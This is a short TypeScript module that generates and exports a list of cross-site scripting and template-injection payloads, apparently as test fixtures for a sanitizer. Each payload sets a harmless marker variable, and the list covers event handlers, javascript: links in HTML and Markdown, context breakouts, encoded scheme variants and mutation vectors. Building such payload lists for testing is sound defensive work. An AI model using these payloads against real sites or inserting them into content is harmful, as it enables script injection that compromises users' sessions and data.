/** Texts that run `window.__pwn = 1` where a page takes them for HTML, a link or a template. */
const RUN = 'window.__pwn=1'
const ENCODED = '&#119;indow.__pwn=1'

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'iframe',
  'marquee',
  'a href=#',
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  'vbscript:',
]
/** Ends what a value may stand in. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</style>', '</title>', '</textarea>', '-->', ']]>', '`']

const handlers = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`))
const links = SCHEMES.flatMap((scheme) => [
  `<a href="${scheme}${RUN}">x</a>`,
  `[x](${scheme}${RUN})`,
  `![x](${scheme}${RUN})`,
  `<${scheme}${RUN}>`,
])
const scripts = BREAKOUTS.flatMap((end) => [`${end}<script>${RUN}</script>`, `${end}<svg><script>${RUN}</script>`])
const others = [
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><animate attributeName=href values=javascript:${RUN} />`,
  `<img src=x onerror="${ENCODED}">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<form><button formaction="javascript:${RUN}">x`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${RUN})}">`,
  `[x]: javascript:${RUN}\n[x]`,
  `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `"-(${RUN})-"`,
  `'-(${RUN})-'`,
  `\u2028${RUN}//`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
]

export const SCRIPT_PAYLOADS: readonly string[] = [...handlers, ...links, ...scripts, ...others]
